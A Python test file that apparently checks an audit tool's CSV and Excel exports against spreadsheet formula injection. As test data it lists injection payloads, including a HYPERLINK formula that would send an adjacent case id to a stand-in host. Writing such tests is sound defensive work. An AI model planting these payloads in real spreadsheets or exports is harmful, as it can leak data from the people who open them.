"""CSV and Excel exports hold text, never a live formula or link (issue 14, item 3).

Every export is fed the same hostile values: the CSV cells must start with ``'`` where a
spreadsheet would read a formula, and the workbooks, unzipped, must hold no formula (``<f>``)
and no hyperlink, whatever xlsxwriter would have made of the text.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from mappa_audit._annual import write_annual_workbook
from mappa_audit._downloads import Downloads
from mappa_audit._exports import csv_bytes, neutralise_formulas, xlsx_bytes

from _support import mappa, sample_with

# (value, why it is hostile); every row is turned into text with a leading ' except the URL,
# which is harmless in a CSV and only a problem when xlsxwriter makes it a hyperlink
HOSTILE = [
    ("{=1+1}", "an array formula to xlsxwriter"),
    ("=1+1", "a formula"),
    ("+1", "a formula to Excel"),
    ("-1+1", "a formula to Excel"),
    ("@SUM(A1)", "a Lotus-style formula"),
    (" =1+1", "a formula after a leading space, which spreadsheets skip"),
    ("\n=1+1", "a formula after a newline"),
    ("\t=1", "a tab, which some spreadsheets strip first"),
    ("\r=1", "a carriage return, likewise"),
    ('{=HYPERLINK("http://x/?"&A2,"open")}', "a live link carrying the next cell (a case id)"),
    ("https://example.org/x", "a URL, which xlsxwriter writes as a hyperlink"),
]
URL = "https://example.org/x"


def as_csv_cell(value: str) -> str:
    """What a hostile value must look like in a CSV."""
    return value if value == URL else "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *((value, as_csv_cell(value)) for value, _ in HOSTILE),
        ("Eastvale", "Eastvale"),  # ordinary text
        ("a=b-c", "a=b-c"),  # signs inside the text are harmless
        ("officer@example.org", "officer@example.org"),  # an @ that does not lead
        ("  Eastvale", "  Eastvale"),  # leading spaces before ordinary text
        ("", ""),  # empty
        (None, None),  # null stays null
        ("\u00a0=1", "'\u00a0=1"),  # a no-break space is whitespace too
    ],
)
def test_neutralise_formulas(value: str | None, expected: str | None) -> None:
    frame = pl.DataFrame({"text": [value]}, schema={"text": pl.String})
    assert neutralise_formulas(frame)["text"].to_list() == [expected]


def test_numbers_keep_their_sign() -> None:
    frame = pl.DataFrame({"days_left": [-3, 2], "rate": [-0.5, 1.0]})
    assert neutralise_formulas(frame).equals(frame)
    assert csv_rows(csv_bytes(frame))[1:] == [["-3", "-0.5"], ["2", "1.0"]]


# ---- what an export holds ------------------------------------------------------------------


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_inert(data: bytes, values: list[str]) -> None:
    cells = {cell for row in csv_rows(data) for cell in row}
    for value in values:
        assert as_csv_cell(value) in cells, repr(value)
        if value != URL:
            assert value not in cells, repr(value)


def assert_xlsx_inert(data: bytes, values: list[str]) -> None:
    """No formula and no hyperlink anywhere in the workbook; every value there as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        names = workbook.namelist()
        sheets = [n for n in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert sheets
        for name in sheets:
            xml = workbook.read(name).decode("utf-8")
            assert "<f>" not in xml, name
            assert "<f " not in xml, name
            assert "<hyperlink" not in xml, name
        for name in names:
            if name.startswith("xl/worksheets/_rels/"):
                assert "hyperlink" not in workbook.read(name).decode("utf-8"), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    # a carriage return is stored as _x000D_, which Excel reads back and
                    # openpyxl does not
                    texts.add(cell.value.replace("_x000D_", "\r"))
    for value in values:
        assert as_csv_cell(value) in texts, repr(value)


# ---- every export builder, on a frame of hostile text --------------------------------------

FRAME = pl.DataFrame({
    "case_id": [f"SYN-C{n:07d}" for n in range(len(HOSTILE))],
    "lau": [value for value, _ in HOSTILE],
    "days_left": list(range(-len(HOSTILE), 0)),
})
VALUES = [value for value, _ in HOSTILE]


def _data_uri(html: str, css_class: str) -> bytes:
    match = re.search(rf"""class=["']{css_class}["'][^>]*href=["']data:[^;]+;base64,([^'"]+)""",
                      html)
    assert match, css_class
    return base64.b64decode(match.group(1))


def _prepared(kind: str) -> bytes:
    """The file a dashboard's download button builds (exceptions, worklist, watch list)."""
    downloads = Downloads("exceptions", "exceptions")
    downloads.offer(FRAME, "run")
    downloads.prepare(kind)
    return _data_uri(downloads.status.value, f"mappa-download-{kind}")


def _annual_workbook(tmp_path: Path) -> bytes:
    tables = {"meetings": FRAME.select(pl.col("lau").alias("measure"),
                                       pl.col("days_left").alias("2025-26"))}
    path = tmp_path / "annual_report.xlsx"
    write_annual_workbook(tables, path, year="2025-26", area="=1+1", suppress_below=5)
    return path.read_bytes()


CSV_EXPORTS: dict[str, Callable[[Path], bytes]] = {
    # the shared writer every CSV goes through
    "csv_bytes": lambda _: csv_bytes(FRAME),
    # the auditor dashboard's downloads (exceptions, worklist and watch list alike)
    "dashboard downloads": lambda _: _prepared("csv"),
}
XLSX_EXPORTS: dict[str, Callable[[Path], bytes]] = {
    # the shared writer every workbook goes through, with notes above the table
    "xlsx_bytes": lambda _: xlsx_bytes({"sheet": FRAME}, notes={"sheet": ["=1+1", URL]}),
    "dashboard downloads": lambda _: _prepared("xlsx"),
    # mappa-audit annual's workbook
    "annual workbook": _annual_workbook,
}


@pytest.mark.parametrize("export", list(CSV_EXPORTS))
def test_csv_exports_are_inert(export: str, tmp_path: Path) -> None:
    assert_csv_inert(CSV_EXPORTS[export](tmp_path), VALUES)


@pytest.mark.parametrize("export", list(XLSX_EXPORTS))
def test_xlsx_exports_are_inert(export: str, tmp_path: Path) -> None:
    assert_xlsx_inert(XLSX_EXPORTS[export](tmp_path), VALUES)


# ---- the commands, on a dataset whose areas and local units are hostile --------------------

# the loader trims values, so the whitespace-led payloads arrive as "=1+1" and "=1"
AREAS = {"Westbrook": "{=1+1}", "Eastvale": "=1+1", "Northmoor": "@SUM(A1)"}
LAUS = {
    "Westbrook Central": "+1", "Westbrook North": "-1+1", "Westbrook South": URL,
    "Eastvale Central": '{=HYPERLINK("http://x/?"&A2,"open")}', "Eastvale North": "\t=1",
    "Eastvale South": "{=1+1}", "Northmoor Central": " =1+1", "Northmoor North": "\n=1+1",
    "Northmoor South": "=1+1",
}
LOADED = sorted({value.strip() for value in (*AREAS.values(), *LAUS.values())})


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return sample_with(tmp_path_factory.mktemp("exports") / "data",
                       {"area": AREAS, "lau": LAUS})


COMMANDS = {
    # mappa-audit due: the worklist (negative days_left stay numbers)
    "due": ["due", "--as-at", "2026-03-02", "--weeks", "8"],
    # mappa-audit sample: the worksheet, stratified by area and local unit
    "sample": ["sample", "--start", "2025-04-01", "--end", "2026-03-31", "--size", "60",
               "--seed", "1", "--strata", "area,lau"],
}


@pytest.mark.parametrize("command", list(COMMANDS))
@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_commands_write_inert_files(hostile_data: Path, tmp_path: Path, command: str,
                                    output: str) -> None:
    out = tmp_path / f"{command}.{output}"
    name, *args = COMMANDS[command]
    result = mappa(name, hostile_data, *args, "--format", output, "--out", out)
    assert result.returncode == 0, result.stderr
    if output == "csv":
        assert_csv_inert(out.read_bytes(), LOADED)
        if command == "due":
            assert any(re.fullmatch(r"-\d+", row[2]) for row in csv_rows(out.read_bytes())[1:])
    else:
        assert_xlsx_inert(out.read_bytes(), LOADED)


def test_every_heading_names_one_field() -> None:
    """Two fields with one heading could not sit in one table (the watch list has both
    ``signal_id`` and ``title``)."""
    from mappa_audit._headings import HEADINGS

    assert len(set(HEADINGS.values())) == len(HEADINGS)
